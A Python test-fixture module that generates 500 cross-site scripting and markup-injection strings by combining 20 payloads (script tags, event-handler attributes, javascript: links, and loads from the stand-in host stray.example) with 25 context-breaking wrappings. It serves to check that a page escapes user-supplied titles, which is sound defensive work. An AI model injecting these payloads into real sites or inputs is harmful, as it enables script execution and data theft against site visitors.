"""500 titles that try to become markup, script or an address: every payload in every wrapping.

Belongs here: the texts. What they try ends in a dialog or in a request to `stray.example`, so that a page that lets one
through is seen.
"""

_ELSEWHERE = "//stray.example/x"
_PAYLOADS = (
    "<script>alert(1)</script>",
    f"<script src={_ELSEWHERE}></script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={_ELSEWHERE}>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f"<iframe src={_ELSEWHERE}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<link rel=stylesheet href={_ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    f"<base href={_ELSEWHERE}>",
    f"<form action={_ELSEWHERE}><button autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    f"<style>@import '{_ELSEWHERE}';</style>",
    "<a href=javascript:alert(1) id=x>x</a>",
    "<div hx-get='/jobs' hx-trigger='load' hx-on::load='alert(1)'>",
    f"<object data={_ELSEWHERE}></object>",
    "{{ 7 * 7 }}{% raw %}<b>raw</b>",
)
_WRAPPINGS = (
    "{}", '"{}', "'{}", '">{}', "'>{}", "-->{}", "]]>{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}",
    "</svg>{}", "</template>{}", "</noscript>{}", "\\{}", "&lt;{}", "\u2028{}", "\u202e{}", "%3C{}", "`{}`", "${{{}}}",
    "<!--{}", "<![CDATA[{}", "<b {}", "{}\u200b",
)  # fmt: skip


def hostile_texts() -> list[str]:
    """All of them, each once."""
    return [wrapping.format(payload) for payload in _PAYLOADS for wrapping in _WRAPPINGS]
